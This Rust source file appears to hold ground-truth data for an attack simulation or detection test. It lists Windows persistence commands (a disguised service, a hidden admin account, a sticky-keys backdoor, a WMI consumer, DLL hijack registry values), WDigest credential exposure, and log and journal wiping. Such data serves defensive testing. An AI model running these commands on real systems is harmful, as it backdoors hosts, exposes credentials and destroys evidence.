//! How the unseen set's patient intruder comes back: services, values of the registry, an account that no list shows,
//! consumers of events; and how it covers its way.

use crate::attack::aftermath::{RegistryChange, Set};
use crate::attack::shell::Line;
use crate::program::POWERSHELL;
use crate::technique::Technique;
use crate::truth::Weight;

const NET: &str = "C:\\Windows\\System32\\net.exe";
const NET1: &str = "C:\\Windows\\System32\\net1.exe";
const REG: &str = "C:\\Windows\\System32\\reg.exe";

/// Lines by which it makes itself at home.
pub(super) const STAY: [Line; 7] = [
    Line::must(
        Technique::NewService,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"sc cre¦ate BrYNSvc64 binPath= \"C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe -k status\" start= auto DisplayName= \"Brother BidiAgent Service\"\"",
        &[(
            "C:\\Windows\\System32\\sc.exe",
            "sc  cre¦ate BrYNSvc64 binPath= \"C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe -k status\" start= auto DisplayName= \"Brother BidiAgent Service\"",
        )],
    ),
    Line::must(
        Technique::NewAccount,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"net user brother_scan Sc4n!2_mail /add /expires:never\"",
        &[
            (NET, "net  user brother_scan Sc4n!2_mail /add /expires:never"),
            (NET1, "C:\\Windows\\system32\\net1  user brother_scan Sc4n!2_mail /add /expires:never"),
        ],
    ),
    Line::must(
        Technique::GroupChange,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"net localgroup Administratoren brother_scan /add & net localgroup Remotedesktopbenutzer brother_scan /add\"",
        &[
            (NET, "net  localgroup Administratoren brother_scan /add"),
            (NET1, "C:\\Windows\\system32\\net1  localgroup Administratoren brother_scan /add"),
            (NET, "net  localgroup Remotedesktopbenutzer brother_scan /add"),
        ],
    ),
    Line::must(
        Technique::RegistryChange,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\set¦hc.exe\" /v Deb¦ugger /t REG_SZ /d C:\\Windows\\System32\\cmd.exe /f\"",
        &[(
            REG,
            "reg  add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\set¦hc.exe\" /v Deb¦ugger /t REG_SZ /d C:\\Windows\\System32\\cmd.exe /f",
        )],
    ),
    Line::cmd(
        Technique::FirewallRule,
        Weight::Supporting,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"netsh advfirewall firewall add rule name=\"Brother Scan\" dir=in action=allow protocol=TCP localport=54925,3389\"",
        &[(
            "C:\\Windows\\System32\\netsh.exe",
            "netsh  advfirewall firewall add rule name=\"Brother Scan\" dir=in action=allow protocol=TCP localport=54925,3389",
        )],
    ),
    Line {
        technique: Technique::EventConsumer,
        weight: Weight::Must,
        shell: POWERSHELL,
        command: "powershell.exe -NoP -c \"$f=Set-WmiInst¦ance -Class __Event¦Filter -Namespace root\\subscription -Arguments @{Name='BrStatusMon';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query='SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA ''Win32_LocalTime'' AND TargetInstance.Hour=23'};$c=Set-WmiInst¦ance -Class CommandLineEvent¦Consumer -Namespace root\\subscription -Arguments @{Name='BrStatusMon';CommandLineTemplate='C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe -w'};Set-WmiInst¦ance -Class __FilterToConsumer¦Binding -Namespace root\\subscription -Arguments @{Filter=$f;Consumer=$c}\"",
        programs: &[],
    },
    Line::must(
        Technique::HostsChange,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"(echo 0.0.0.0 wdcp.microsoft.com&echo 0.0.0.0 wdcpalt.microsoft.com)>>C:\\Windows\\System32\\drivers\\etc\\ho¦sts\"",
        &[],
    ),
];

/// The query of that consumer.
pub(super) const HOURLY: &str = "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour=23";

/// Values of the registry, as the hives keep them.
pub(super) const REGISTRY: [RegistryChange; 5] = [
    RegistryChange {
        technique: Technique::RegistryChange,
        hive: "SOFTWARE",
        key: "Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe",
        name: "Debugger",
        value: Set::Text("C:\\Windows\\System32\\cmd.exe"),
    },
    RegistryChange {
        technique: Technique::RegistryChange,
        hive: "SOFTWARE",
        key: "Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList",
        name: "brother_scan",
        value: Set::Number(0),
    },
    RegistryChange {
        technique: Technique::RegistryChange,
        hive: "SYSTEM",
        key: "ControlSet001\\Services\\W32Time\\TimeProviders\\BrTime",
        name: "DllName",
        value: Set::Text("C:\\Windows\\debug\\WIA\\brother\\BrTime.dll"),
    },
    RegistryChange {
        technique: Technique::RegistryChange,
        hive: "SOFTWARE",
        key: "Microsoft\\Netsh",
        name: "brnet",
        value: Set::Text("C:\\Windows\\debug\\WIA\\brother\\brnet.dll"),
    },
    RegistryChange {
        technique: Technique::CredentialDump,
        hive: "SYSTEM",
        key: "ControlSet001\\Control\\SecurityProviders\\WDigest",
        name: "UseLogonCredential",
        value: Set::Number(1),
    },
];

/// The same values of which Sysmon was told to note them: what sets them, where, to what.
pub(super) const SEEN: [(&str, &str, &str); 3] = [
    (
        REG,
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe",
        "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\BrTime\\DllName",
        "C:\\Windows\\debug\\WIA\\brother\\BrTime.dll",
    ),
    (
        "C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe",
        "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
        "DWORD (0x00000001)",
    ),
];

/// A script that the computer's own policy starts with it, and the list that names it.
pub(super) const AT_START: [(&str, &str); 2] = [
    (
        "C:\\Windows\\System32\\GroupPolicy\\Machine\\Scripts\\Startup\\brsetup.cmd",
        "@start \"\" /b C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe -w\r\n",
    ),
    (
        "C:\\Windows\\System32\\GroupPolicy\\Machine\\Scripts\\scripts.ini",
        "\r\n[Startup]\r\n0CmdLine=brsetup.cmd\r\n0Parameters=\r\n",
    ),
];

/// How it covers its way: the web server writes no more, the journal of the file system goes, the command log is emptied.
pub(super) const COVER: [Line; 3] = [
    Line::must(
        Technique::AuditPolicy,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\System32\\inetsrv\\appcmd.exe set config \"Default Web Site\" /section:http¦Logging /dont¦Log:true /commit:apphost\"",
        &[(
            "C:\\Windows\\System32\\inetsrv\\appcmd.exe",
            "C:\\Windows\\System32\\inetsrv\\appcmd.exe  set config \"Default Web Site\" /section:http¦Logging /dont¦Log:true /commit:apphost",
        )],
    ),
    Line::must(
        Technique::LogDeletion,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"fsu¦til usn delete¦journal /d c:\"",
        &[("C:\\Windows\\System32\\fsutil.exe", "fsu¦til  usn delete¦journal /d c:")],
    ),
    Line {
        technique: Technique::LogClearing,
        weight: Weight::Must,
        shell: POWERSHELL,
        command: "powershell.exe -NoP -c \"Clear-Event¦Log -LogName 'Windows PowerShell'; Limit-Event¦Log -LogName 'MSExchange Management' -MaximumSize 64KB\"",
        programs: &[],
    },
];
